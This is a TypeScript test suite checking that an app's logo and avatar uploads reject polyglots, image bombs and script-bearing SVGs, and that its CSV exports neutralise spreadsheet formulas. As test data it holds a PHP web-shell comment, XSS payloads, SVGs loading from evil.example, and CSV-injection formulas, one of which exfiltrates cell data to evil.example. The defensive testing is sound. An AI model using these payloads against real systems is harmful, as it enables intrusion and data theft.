/**
 * Suite 6b, hostile files in and out, against the real app, Postgres and upload folder. In: both upload
 * routes (a tool logo, an avatar) refuse a file whose name lies about its content, a polyglot, a
 * decompression bomb, a damaged image, an SVG that could run script, and a file over the size limit, each
 * with a clear 4xx message and nothing left in the upload folder or the database; the images they accept
 * are served inert. Out: every CSV export neutralises cells that a spreadsheet would run as formulas.
 */
import { mkdtempSync, readdirSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { sql } from '@kitly/db'
import { parse } from 'csv-parse/sync'
import type { FastifyInstance } from 'fastify'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { MAX_UPLOAD_BYTES } from '../../src/plugins/multipart.ts'
import { LOGO_TOO_LARGE, NOT_A_LOGO, UNSAFE_SVG } from '../../src/routes/admin/upload/index.ts'
import { NOT_AN_IMAGE, TOO_LARGE } from '../../src/routes/users/avatar.ts'
import { IMAGE_TOO_BIG, NOT_ONLY_AN_IMAGE, UNREADABLE_IMAGE } from '../../src/uploads/image-safety.ts'
import { buildTestApp } from '../build-test-app.ts'
import { createAdmin, createCategory, createTool, createUser, multipartForm } from '../factories.ts'
import { imageHeader } from '../image-headers.ts'
import { type Browser, browserAs } from '../session.ts'
import { type DatabaseWatch, watchDatabase } from './db-snapshot.ts'

const dataDir = mkdtempSync(path.join(tmpdir(), 'kitly-hostile-uploads-'))
const uploadsDir = path.join(dataDir, 'uploads')

let app: FastifyInstance
let admin: Browser
let watch: DatabaseWatch

beforeAll(async () => {
  app = await buildTestApp({ DATA_DIR: dataDir })
  admin = await browserAs(app, await createAdmin(app.db, { password: null }))
  watch = await watchDatabase(app.db)
})
afterAll(async () => {
  await app?.close()
  rmSync(dataDir, { recursive: true, force: true })
})

/** Every file in the upload folder, as paths relative to it. */
const filesOnDisk = () =>
  readdirSync(uploadsDir, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => path.relative(uploadsDir, path.join(entry.parentPath, entry.name)))
    .sort()

/**
 * The two routes that take a file, each with its own messages. Each upload comes from a new account, as
 * uploads are limited to 20 an hour per account.
 */
const ROUTES = {
  logo: {
    url: '/api/admin/upload',
    uploader: () => createAdmin(app.db, { password: null }),
    field: 'file',
    notAccepted: NOT_A_LOGO,
    tooLarge: LOGO_TOO_LARGE,
    urlOf: (body: { fileUrl: string }) => body.fileUrl,
  },
  avatar: {
    url: '/api/users/upload-avatar',
    uploader: () => createUser(app.db, { password: null }),
    field: 'avatar',
    notAccepted: NOT_AN_IMAGE,
    tooLarge: TOO_LARGE,
    urlOf: (body: { avatar_url: string }) => body.avatar_url,
  },
} as const
type RouteName = keyof typeof ROUTES

/** Uploads a file as a new account of the route's kind; the database watch starts after the account exists. */
async function upload(route: RouteName, content: Buffer | string, filename: string, type: string) {
  const { url, uploader, field } = ROUTES[route]
  const client = await browserAs(app, await uploader())
  await watch.changedTables()
  return client.inject({ method: 'POST', url, ...multipartForm([{ field, filename, type, content }]) })
}

// The smallest valid PNG (1×1, transparent).
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
  'base64',
)
const HTML_PAGE = '<!doctype html><html><body><script>fetch("/api/users/me").then(r=>r.text()).then(alert)</script>'
/** A Windows executable's first bytes: the MZ header and its DOS stub message. */
const WINDOWS_EXE = Buffer.concat([
  Buffer.from('MZ\x90\x00\x03'),
  Buffer.alloc(59),
  Buffer.from('This program cannot be run in DOS mode.'),
])
/** A ZIP archive holding one empty file (local header, central directory, end record). */
const ZIP = Buffer.from(
  'UEsDBAoAAAAAAAAAIQAAAAAAAAAAAAAAAAAFAAAAYS50eHRQSwECFAAKAAAAAAAAACEAAAAAAAAAAAAAAAAABQAAAAAAAAAAAAAAAAAAAAAAYS50eHRQSwUGAAAAAAEAAQAzAAAAIwAAAAAA',
  'base64',
)

type Refusal = { status: number; error: string | ((route: RouteName) => string) }
const notAccepted: Refusal = { status: 400, error: (route) => ROUTES[route].notAccepted }

/** Files that must be refused by both routes, what each is, and the answer it must get. */
const HOSTILE_FILES: Array<{ label: string; content: Buffer | string; filename: string; type: string } & Refusal> = [
  { label: 'a web page named .png', content: HTML_PAGE, filename: 'logo.png', type: 'image/png', ...notAccepted },
  {
    label: 'a Windows program named .png',
    content: WINDOWS_EXE,
    filename: 'logo.png',
    type: 'image/png',
    ...notAccepted,
  },
  { label: 'a ZIP archive named .jpg', content: ZIP, filename: 'photo.jpg', type: 'image/jpeg', ...notAccepted },
  { label: 'an empty file', content: Buffer.alloc(0), filename: 'logo.png', type: 'image/png', ...notAccepted },
  {
    label: 'a PNG followed by a web page (polyglot)',
    content: Buffer.concat([PNG, Buffer.from(HTML_PAGE)]),
    filename: 'logo.png',
    type: 'image/png',
    status: 400,
    error: NOT_ONLY_AN_IMAGE,
  },
  {
    label: 'a PNG followed by a ZIP archive (PNG/JAR polyglot)',
    content: Buffer.concat([PNG, ZIP]),
    filename: 'logo.png',
    type: 'image/png',
    status: 400,
    error: NOT_ONLY_AN_IMAGE,
  },
  {
    label: 'a JPEG whose comment is PHP (polyglot)',
    content: Buffer.concat([
      imageHeader.jpeg(64, 64),
      Buffer.from('\xff\xfe\x00\x1e<?php system($_GET[0]); ?>  ', 'latin1'),
    ]),
    filename: 'photo.jpg',
    type: 'image/jpeg',
    status: 400,
    error: NOT_ONLY_AN_IMAGE,
  },
  {
    label: 'a PNG that is also a PDF (polyglot)',
    content: Buffer.concat([PNG, Buffer.from('%PDF-1.4\n1 0 obj <<>> endobj\n%%EOF')]),
    filename: 'logo.png',
    type: 'image/png',
    status: 400,
    error: NOT_ONLY_AN_IMAGE,
  },
  {
    label: 'a PNG bomb: 60,000 × 60,000 pixels in 33 bytes',
    content: imageHeader.png(60_000, 60_000),
    filename: 'logo.png',
    type: 'image/png',
    status: 400,
    error: IMAGE_TOO_BIG,
  },
  {
    label: 'a JPEG bomb: 65,000 × 65,000 pixels',
    content: imageHeader.jpeg(65_000, 65_000),
    filename: 'photo.jpg',
    type: 'image/jpeg',
    status: 400,
    error: IMAGE_TOO_BIG,
  },
  {
    label: 'a WebP bomb: 16,000 × 16,000 pixels (each side allowed, not the total)',
    content: imageHeader.webp(16_000, 16_000),
    filename: 'logo.webp',
    type: 'image/webp',
    status: 400,
    error: IMAGE_TOO_BIG,
  },
  {
    label: 'a PNG cut short before its size',
    content: PNG.subarray(0, 12),
    filename: 'logo.png',
    type: 'image/png',
    status: 400,
    error: UNREADABLE_IMAGE,
  },
  {
    label: 'a JPEG whose data starts before any frame header',
    content: Buffer.from([0xff, 0xd8, 0xff, 0xda, 0, 8, 1, 2, 3, 4, 5, 6]),
    filename: 'photo.jpg',
    type: 'image/jpeg',
    status: 400,
    error: UNREADABLE_IMAGE,
  },
  {
    label: 'a file over the 5 MB limit',
    content: Buffer.concat([PNG, Buffer.alloc(MAX_UPLOAD_BYTES)]),
    filename: 'big.png',
    type: 'image/png',
    status: 413,
    error: (route) => ROUTES[route].tooLarge,
  },
]

/** SVGs that could run script or reach out, each written the way filters tend to miss. */
const HOSTILE_SVGS = [
  '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><SCRIPT >alert(1)</SCRIPT></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  '<svg xmlns="http://www.w3.org/2000/svg"><rect\nonclick="alert(1)"/></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)"><rect/></a></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><a href="&#106;avascript&#x3a;alert(1)"><rect/></a></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><a><animate attributeName="href" values="&#106;avascript:alert(1)"/><text>x</text></a></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><set attributeName="onmouseover" to="alert(1)"/></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe src="https://evil.example"/></foreignObject></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><use href="https://evil.example/sprite.svg#x"/></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(https://evil.example/x.css);</style></svg>',
  '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>',
]

describe.each(Object.keys(ROUTES) as RouteName[])('the %s upload', (route) => {
  it.each(HOSTILE_FILES)('refuses $label with a clear message, storing nothing', async (file) => {
    const before = filesOnDisk()
    const response = await upload(route, file.content, file.filename, file.type)
    expect(response.statusCode).toBe(file.status)
    expect(response.json()).toEqual({
      error: typeof file.error === 'function' ? file.error(route) : file.error,
    })
    expect(filesOnDisk()).toEqual(before)
    expect(await watch.changedTables()).toEqual([])
  })

  it.each([
    ['a PNG', PNG, 'image/png'],
    ['a JPEG at 4,000 × 3,000 (a phone photo)', imageHeader.jpeg(4_000, 3_000), 'image/jpeg'],
    ['a WebP at 64 × 64', imageHeader.webp(64, 64), 'image/webp'],
  ])('accepts %s, names it by its content and serves it inert', async (_label, content, type) => {
    // A lying name: the stored file is named and typed by what it is.
    const response = await upload(route, content, 'picture.html', 'text/html')
    expect(response.statusCode).toBe(200)
    const url = ROUTES[route].urlOf(response.json())
    expect(url).toMatch(new RegExp(`^/uploads/[a-z]+/[A-Za-z0-9_-]+\\.${type.split('/')[1]?.replace('jpeg', 'jpg')}$`))
    const served = await app.inject(url)
    expect(served.statusCode).toBe(200)
    expect(served.headers['content-type']).toMatch(new RegExp(`^${type}`))
    expect(served.headers['x-content-type-options']).toBe('nosniff')
    expect(served.headers['content-security-policy']).toMatch(/default-src 'none'.*sandbox/)
  })

  it.each(HOSTILE_SVGS)('refuses an SVG that could run script or load another file: %s', async (svg) => {
    const before = filesOnDisk()
    const response = await upload(route, svg, 'logo.svg', 'image/svg+xml')
    expect(response.statusCode).toBe(400)
    // A DOCTYPE with entities does not even pass for an SVG logo; either way it is refused as such.
    const refusals = route === 'logo' ? [UNSAFE_SVG, NOT_A_LOGO] : [NOT_AN_IMAGE]
    expect(refusals).toContain(response.json().error)
    expect(filesOnDisk()).toEqual(before)
  })
})

describe('an inert SVG logo', () => {
  it('is stored as SVG whatever its name, and served as an image with a sandboxing policy', async () => {
    const svg = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><circle r="4" cx="5" cy="5"/></svg>'
    const response = await upload('logo', svg, 'logo.png', 'image/png')
    expect(response.statusCode).toBe(200)
    const served = await app.inject(response.json().fileUrl)
    expect(response.json().fileUrl).toMatch(/\.svg$/)
    expect(served.headers['content-type']).toMatch(/^image\/svg\+xml/)
    expect(served.headers['x-content-type-options']).toBe('nosniff')
    // Opened on its own, nothing in it may run, load or reach our origin's data.
    expect(served.headers['content-security-policy']).toMatch(/default-src 'none'.*sandbox/)
  })
})

describe('CSV exports', () => {
  /** Text a spreadsheet would run as a formula, each way a cell can start one (OWASP CSV injection). */
  const FORMULAS = [
    `=HYPERLINK("https://evil.example?"&A1,"Click")`,
    `+cmd|' /C calc'!A0`,
    '-2+3+cmd|calc!A0',
    '@SUM(1+1)*cmd|calc!A0',
    '\t=1+1',
    '\r=1+1',
  ]
  const formulaAt = (index: number) => FORMULAS[index % FORMULAS.length] as string

  /** An address the database accepts (no spaces, one @) that still starts a formula. */
  const formulaEmail = (index: number) => `${'=+-'[index % 3]}cmd|calc!A${index}@example.com`

  beforeAll(async () => {
    const category = await createCategory(app.db, { name: formulaAt(0) })
    for (const [index, formula] of FORMULAS.entries()) {
      const tool = await createTool(app.db, { categoryId: category.id, name: formula })
      await app.db.query(sql.typeAlias('void')`
        UPDATE tools SET short_description = ${formulaAt(index + 1)}, description = ${formulaAt(index + 2)},
          tags = ${sql.array([formulaAt(index + 3)], 'text')}, free_credit_info = ${formulaAt(index + 4)}
        WHERE id = ${tool.id}`)
      const account = await createUser(app.db, { name: formula, email: formulaEmail(index), password: null })
      await app.db.query(sql.typeAlias('void')`
        UPDATE users SET company_name = ${formulaAt(index + 3)} WHERE id = ${account.id}`)
      await app.db.query(sql.typeAlias('void')`
        UPDATE profiles SET location = ${formulaAt(index + 1)}
        WHERE user_id = ${account.id}`)
      await app.db.query(sql.typeAlias('void')`
        INSERT INTO contact_inquiries (email, query_type, message, admin_notes)
        VALUES (${formulaEmail(index)}, 'general', ${formula}, ${formulaAt(index + 3)})`)
      await app.db.query(sql.typeAlias('void')`
        INSERT INTO newsletter_subscribers (email, source) VALUES (${formulaEmail(index)}, ${formulaAt(index + 1)})`)
    }
  })

  it.each([
    '/api/admin/tools/export',
    '/api/admin/contact-inquiries/export',
    '/api/admin/registered-users/export',
    '/api/admin/newsletter/subscribers/export',
  ])('%s: no cell starts a formula, and the text is kept behind an apostrophe', async (url) => {
    const response = await admin.get(url)
    expect(response.statusCode).toBe(200)
    expect(response.headers['content-type']).toMatch(/^text\/csv/)
    const rows: string[][] = parse(response.body, { bom: true, relax_column_count: false })
    const cells = rows.flat()
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([])
    // Every planted formula is there, neutralised, not dropped.
    const neutralised = cells.filter((cell) => FORMULAS.some((formula) => cell.startsWith(`'${formula}`)))
    expect(neutralised.length).toBeGreaterThanOrEqual(FORMULAS.length)
  })
})
